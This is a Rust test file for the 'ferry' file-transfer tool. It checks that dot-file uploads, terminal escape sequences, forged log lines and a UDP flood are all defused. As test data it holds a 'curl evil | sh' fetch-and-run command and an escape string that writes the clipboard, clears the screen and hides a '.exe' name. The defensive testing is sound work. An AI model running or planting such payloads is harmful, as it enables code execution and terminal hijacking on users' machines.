//! Attacks through text and defaults (issue 8): dot names, the default download folder,
//! terminal escapes in every peer-controlled field (on a real pseudo-terminal) and a notes
//! flood against a `ferry listen` whose output nobody reads.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::{FromRawFd, OwnedFd};
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::util::*;

/// `ferry serve` without `--dir` saves where the window does, `$HOME/Downloads/Ferry`
/// (created), says so on its first line, and a dot name arrives as a visible file.
#[test]
fn serve_without_dir_saves_to_the_windows_folder_and_never_hides_a_file() {
    let home = tempfile::tempdir().unwrap();
    let cwd = tempfile::tempdir().unwrap();
    let mut child = ferry()
        .args(["serve", "--bind", "127.0.0.1", "--port", "0"])
        .env("HOME", home.path())
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_DOWNLOAD_DIR")
        .current_dir(cwd.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let lines = line_channel(child.stdout.take().unwrap());
    let _guard = ChildGuard(child);
    let first = lines.recv_timeout(DEADLINE).expect("serve prints a line");
    let expected = home.path().canonicalize().unwrap().join("Downloads/Ferry");
    assert!(expected.is_dir(), "the folder is created");
    assert!(
        first.contains(&format!("saving to {} ", expected.display())),
        "{first}"
    );
    let addr = first
        .split_whitespace()
        .find_map(|word| word.parse::<std::net::SocketAddr>().ok())
        .unwrap_or_else(|| panic!("no address in {first:?}"));

    plain_upload(addr, &[(".bash_profile", b"curl evil | sh", "")]);
    wait_line(&lines, "received");
    assert_eq!(names_in(&expected), ["_bash_profile"]);
    assert_eq!(
        std::fs::read(expected.join("_bash_profile")).unwrap(),
        b"curl evil | sh"
    );
    assert!(
        names_in(cwd.path()).is_empty(),
        "nothing lands in the current directory"
    );
}

/// Peer strings that would drive a terminal if printed raw: OSC 52 (write the clipboard),
/// clear screen, an 8-bit CSI, a right-to-left override and a line separator.
const EVIL: &str = "x\u{1b}]52;c;SGVsbG8=\u{7}\u{1b}[2J\u{9b}31m\u{202e}txt.exe\u{2028}\u{85}end";

/// What a terminal running `ferry` receives: the child's stdout and stderr both on the slave
/// of a fresh pseudo-terminal (so the logger and the progress bars behave as on a real
/// terminal: a pipe would prove nothing), the master read on a thread into `output`.
struct OnPty {
    child: ChildGuard,
    output: Arc<Mutex<Vec<u8>>>,
    /// Held open: `chat` ends at the end of its input.
    _stdin: std::process::ChildStdin,
}

impl OnPty {
    fn spawn(mut cmd: std::process::Command) -> Self {
        let (master, slave) = open_pty();
        let mut child = cmd
            .env("TERM", "xterm-256color")
            .env_remove("NO_COLOR")
            .stdin(Stdio::piped())
            .stdout(Stdio::from(slave.try_clone().unwrap()))
            .stderr(Stdio::from(slave))
            .spawn()
            .unwrap();
        // `cmd` holds the slave ends: dropping it leaves them to the child alone, so reads on
        // the master end (EIO) when the child is gone.
        drop(cmd);
        let output = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&output);
        std::thread::spawn(move || {
            let mut master = master;
            let mut buf = [0u8; 4096];
            while let Ok(n @ 1..) = master.read(&mut buf) {
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        let stdin = child.stdin.take().unwrap();
        Self {
            child: ChildGuard(child),
            output,
            _stdin: stdin,
        }
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.output.lock().unwrap()).into_owned()
    }

    /// Polls the terminal's output until `done` holds; panics with it at the deadline.
    fn wait(&self, what: &str, done: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + DEADLINE;
        loop {
            let text = self.text();
            if done(&text) {
                return text;
            }
            assert!(
                Instant::now() < deadline,
                "no {what} on the terminal; it shows: {text:?}"
            );
            std::thread::sleep(Duration::from_millis(20)); // a poll interval, not a sync point
        }
    }
}

/// A pseudo-terminal pair: (master, slave).
fn open_pty() -> (std::fs::File, OwnedFd) {
    let mut master: libc::c_int = -1;
    let mut slave: libc::c_int = -1;
    // SAFETY: openpty writes two fresh descriptors into the ints we own; the name, termios
    // and window-size arguments may be null.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(rc, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both descriptors were just opened for us and are owned by nothing else.
    unsafe {
        (
            std::fs::File::from_raw_fd(master),
            OwnedFd::from_raw_fd(slave),
        )
    }
}

/// The escape sequences Ferry itself may write to a terminal: colours (SGR) from the logger,
/// and the cursor and line movements of the progress bars. Nothing else may contain ESC.
fn strip_own_sequences(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        out.push_str(&rest[..at]);
        let seq = &rest[at + 1..];
        let params = seq.strip_prefix('[').map(|p| {
            p.len()
                - p.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';' || c == '?')
                    .len()
        });
        match params.and_then(|n| seq[1 + n..].chars().next().map(|f| (n, f))) {
            Some((n, 'm' | 'A' | 'B' | 'K' | 'G' | 'l' | 'h')) => {
                rest = &seq[1 + n + 1..];
            }
            _ => {
                out.push('\u{1b}');
                rest = seq;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Asserts that nothing the peer sent reaches the terminal raw.
fn assert_no_raw_peer_controls(text: &str) {
    let own_removed = strip_own_sequences(text);
    for (what, bad) in [
        ("ESC not from Ferry", "\u{1b}"),
        ("8-bit CSI", "\u{9b}"),
        ("NEL", "\u{85}"),
        ("right-to-left override", "\u{202e}"),
        ("line separator", "\u{2028}"),
        ("BEL", "\u{7}"),
    ] {
        let at = own_removed.find(bad);
        assert!(
            at.is_none(),
            "{what} reached the terminal: {:?}",
            &own_removed[at.unwrap_or(0).saturating_sub(80)..]
        );
    }
}

fn read_frame(stream: &mut TcpStream) -> serde_json::Value {
    let mut len = [0u8; 4];
    stream.read_exact(&mut len).unwrap();
    let mut body = vec![0u8; i32::from_le_bytes(len) as usize];
    stream.read_exact(&mut body).unwrap();
    serde_json::from_slice(&body).unwrap()
}

/// ESC/OSC, C1, bidi and separators in a plain upload's name and msg, a Ferry offer's name,
/// msg and cancel reason, and an unknown `kind`: with `ferry serve`'s stdout and stderr on a
/// terminal and every log line on (RUST_LOG=info), none of it arrives raw.
#[test]
fn serve_on_a_terminal_never_passes_peer_escapes_through() {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = ferry();
    cmd.args(["serve", "--bind", "127.0.0.1", "--port", "0", "--dir"])
        .arg(dir.path());
    let serve = OnPty::spawn(cmd);
    let first = serve.wait("listening line", |t| t.contains("(TCP)"));
    let addr: SocketAddr = first
        .split_whitespace()
        .find_map(|word| word.parse().ok())
        .unwrap_or_else(|| panic!("no address in {first:?}"));

    // Plain: name and msg.
    plain_upload(addr, &[(EVIL, b"data", EVIL)]);
    serve.wait("received line", |t| t.contains("received "));

    // Ferry: an unknown kind.
    let mut stream = TcpStream::connect(addr).unwrap();
    stream.set_read_timeout(Some(DEADLINE)).unwrap();
    let kind = serde_json::json!({ "ferry": 1, "kind": EVIL }).to_string();
    stream.write_all(&plain_frame(&kind)).unwrap();
    serve.wait("unknown kind", |t| t.contains("unknown message kind"));
    drop(stream);

    // Ferry: an offer with a hostile name and msg, cancelled with a hostile reason.
    let mut stream = TcpStream::connect(addr).unwrap();
    stream.set_read_timeout(Some(DEADLINE)).unwrap();
    let offer = serde_json::json!({
        "ferry": 1, "kind": "offer", "file_name": EVIL, "file_size": 10, "msg": EVIL,
    })
    .to_string();
    stream.write_all(&plain_frame(&offer)).unwrap();
    let answer = read_frame(&mut stream);
    assert_eq!(answer["kind"], "accept", "{answer}");
    stream.write_all(&0i32.to_le_bytes()).unwrap();
    let cancel = serde_json::json!({ "kind": "cancel", "reason": EVIL }).to_string();
    stream.write_all(&plain_frame(&cancel)).unwrap();
    let text = serve.wait("the cancel reason", |t| {
        t.contains("cancelled by the sender")
    });
    drop(stream);

    assert_no_raw_peer_controls(&text);
    // The peer's text was shown, escaped: visible, not obeyed.
    assert!(text.contains("\\u{1b}]52;c;SGVsbG8="), "{text:?}");
    assert!(text.contains("\\u{202e}txt.exe"), "{text:?}");
    assert!(
        text.contains("unknown message kind \"x\\u{1b}]52"),
        "the WARN line shows the kind escaped: {text:?}"
    );
    drop(serve.child);
}

/// `ferry listen` and `ferry chat` on a terminal: a hostile note is shown escaped, and only its
/// line break is kept (indented, so it cannot pose as a line of Ferry's own).
#[test]
fn listen_and_chat_on_a_terminal_show_hostile_notes_escaped() {
    let peer = std::net::UdpSocket::bind((LOOPBACK, 0)).unwrap();
    let note = format!("{EVIL}\nsecond\r\n[00:00:00 UTC] 1.2.3.4:5: forged");
    for args in [
        vec!["listen", "--bind", "127.0.0.1", "--port", "0"],
        vec![
            "chat",
            "--to",
            "127.0.0.1:9",
            "--bind",
            "127.0.0.1",
            "--port",
            "0",
        ],
    ] {
        let mut cmd = ferry();
        cmd.args(&args);
        let running = OnPty::spawn(cmd);
        let first = running.wait("listening line", |t| t.contains("listening on "));
        let addr: SocketAddr = first
            .split("listening on ")
            .nth(1)
            .and_then(|rest| rest.split_whitespace().next())
            .and_then(|word| word.parse().ok())
            .unwrap_or_else(|| panic!("no address in {first:?}"));
        peer.send_to(note.as_bytes(), addr).unwrap();
        let text = running.wait("the note", |t| t.contains("forged"));
        assert_no_raw_peer_controls(&text);
        assert!(
            text.contains("x\\u{1b}]52;c;SGVsbG8=\\u{7}"),
            "{args:?}: {text:?}"
        );
        // The terminal turns "\n" into "\r\n"; the note's own "\r" is shown as "\r".
        assert!(
            text.contains("end\r\n    second\\r\r\n    [00:00:00 UTC] 1.2.3.4:5: forged"),
            "{args:?}: {text:?}"
        );
    }
}

/// The receive queue (bytes) and drop count of the loopback UDP socket bound to `port`,
/// from `/proc/net/udp`.
fn udp_socket_state(port: u16) -> Option<(u64, u64)> {
    let table = std::fs::read_to_string("/proc/net/udp").unwrap();
    let local = format!("0100007F:{port:04X}");
    let line = table
        .lines()
        .find(|line| line.split_whitespace().nth(1) == Some(local.as_str()))?;
    let fields: Vec<&str> = line.split_whitespace().collect();
    let rx_queue = fields[4]
        .split(':')
        .nth(1)
        .and_then(|hex| u64::from_str_radix(hex, 16).ok())
        .unwrap();
    let drops = fields.last().and_then(|d| d.parse().ok()).unwrap();
    Some((rx_queue, drops))
}

/// [`udp_socket_state`] of a socket that must exist. `/proc/net/udp` is read a page at a
/// time and each read starts again by counting sockets from the top, so a socket closed
/// elsewhere meanwhile (other tests, other programs) shifts the count and one line can be
/// skipped: a miss is asked again. Only a socket missing for seconds is gone, and then the
/// listener's exit status and stderr say why.
fn listening_socket_state(port: u16, child: &mut std::process::Child, stderr: &Path) -> (u64, u64) {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        if let Some(state) = udp_socket_state(port) {
            return state;
        }
        let exited = child.try_wait().unwrap();
        if exited.is_some() || Instant::now() >= deadline {
            panic!(
                "the listener's socket 127.0.0.1:{port} is gone from /proc/net/udp \
                 (exit status {exited:?}); its stderr:\n{}",
                std::fs::read_to_string(stderr).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Peak resident memory of a process, from `/proc/PID/status` (`VmHWM`), in KiB.
fn peak_rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .and_then(|rest| rest.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("no VmHWM in {status}"))
}

/// A flood of the largest datagrams, all invalid UTF-8 (each decodes to three times its
/// size), against a `ferry listen` whose stdout nobody reads: memory stays bounded, and once
/// the output is read again it says how many notes were dropped.
#[test]
fn a_notes_flood_against_an_unread_listen_stays_small_and_reports_drops() {
    // Its stderr is kept, to say why it ended if it ever ends mid-flood.
    let logs = tempfile::tempdir().unwrap();
    let stderr_path = logs.path().join("listen.stderr");
    let mut child = ferry()
        .args(["listen", "--bind", "127.0.0.1", "--port", "0"])
        .stdout(Stdio::piped())
        .stderr(std::fs::File::create(&stderr_path).unwrap())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut stdout = child.stdout.take().unwrap();
    let mut guard = ChildGuard(child);
    // Read only the first line (the address), byte by byte so nothing more is consumed.
    let mut first = Vec::new();
    let mut byte = [0u8; 1];
    while first.last() != Some(&b'\n') {
        assert_eq!(stdout.read(&mut byte).unwrap(), 1, "listen printed no line");
        first.push(byte[0]);
    }
    let first = String::from_utf8(first).unwrap();
    let addr: SocketAddr = first
        .trim()
        .strip_prefix("listening on ")
        .and_then(|a| a.parse().ok())
        .unwrap_or_else(|| panic!("no address in {first:?}"));

    let peer = std::net::UdpSocket::bind((LOOPBACK, 0)).unwrap();
    let datagram = vec![0xffu8; 65_507];
    // Flood until the listener has certainly taken in more notes than its queue holds: what
    // the kernel dropped or still holds for the socket does not count (read from
    // /proc/net/udp), so a loaded machine floods just as hard, only longer.
    const RECEIVED: u64 = 2_000;
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut sent = 0u64;
    loop {
        let (queued_bytes, kernel_drops) =
            listening_socket_state(addr.port(), &mut guard.0, &stderr_path);
        // A queued datagram takes more than its payload: this over-counts what waits.
        let waiting = queued_bytes / datagram.len() as u64 + 1;
        if sent.saturating_sub(kernel_drops + waiting) >= RECEIVED {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the listener took in too few of {sent} datagrams"
        );
        for _ in 0..100 {
            // The local queue may be full for a moment: that datagram is simply not sent.
            if peer.send_to(&datagram, addr).is_ok() {
                sent += 1;
            }
        }
    }
    let peak_kib = peak_rss_kib(pid);
    assert!(
        peak_kib < 64 * 1024,
        "peak RSS {} MiB after {sent} datagrams",
        peak_kib / 1024
    );

    // Reading again: the kept notes follow a line saying how many were dropped.
    let lines = line_channel(stdout);
    let dropped = wait_line(&lines, "(dropped ");
    let count: u64 = dropped
        .strip_prefix("(dropped ")
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no count in {dropped:?}"));
    assert!(count > 0 && count < sent, "{dropped:?}, {sent} sent");
    assert!(
        dropped.ends_with("notes: arriving faster than they could be shown)"),
        "{dropped:?}"
    );
    // After it, the kept notes: each the replacement character, 65 507 times. (Datagrams
    // still queued in the kernel may overflow the queue again meanwhile: a later count.)
    let note = loop {
        let line = lines.recv_timeout(DEADLINE).expect("a kept note follows");
        if !line.starts_with("(dropped ") {
            break line;
        }
    };
    assert!(
        note.ends_with(&"\u{FFFD}".repeat(65_507)),
        "{}",
        &note[..80.min(note.len())]
    );
}
